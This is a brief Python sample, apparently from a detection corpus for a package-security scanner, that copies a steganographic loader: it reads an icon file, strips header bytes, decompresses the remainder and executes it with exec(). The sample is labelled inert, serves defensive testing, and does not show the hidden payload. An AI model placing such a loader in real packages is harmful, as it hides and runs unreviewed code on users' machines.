# pkgguard corpus 054 (steganography), modelled on [telnyx]; inert, never run.
import zlib
from pathlib import Path

blob = Path(__file__).with_name("app.ico").read_bytes()
exec(zlib.decompress(blob[6 + 16:]))
